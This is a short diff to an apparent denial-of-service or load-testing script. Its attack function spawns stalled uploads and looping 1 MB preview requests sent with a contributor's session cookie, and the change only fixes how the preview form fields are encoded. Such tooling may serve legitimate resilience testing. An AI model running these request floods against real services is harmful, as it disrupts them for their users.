@@ -212,7 +212,7 @@ def attack(base: str, state_path: str, page: str, seconds: float, result_path: s
     for _ in range(STALLED_UPLOADS):
         spawn(_stalled_upload, base, deadline, counter, held)
     # 4. Looping previews by the signed-in contributor.
-    preview = urllib.parse.urlencode(state["preview_fields"]).encode()
+    preview = urllib.parse.urlencode([tuple(pair) for pair in state["preview_fields"]]).encode()
     headers = {"Cookie": state["contributor_cookie"], "Content-Type": "application/x-www-form-urlencoded"}
     for _ in range(PREVIEW_LOOPS):
         spawn(_loop, deadline, counter, "preview 1 MB",
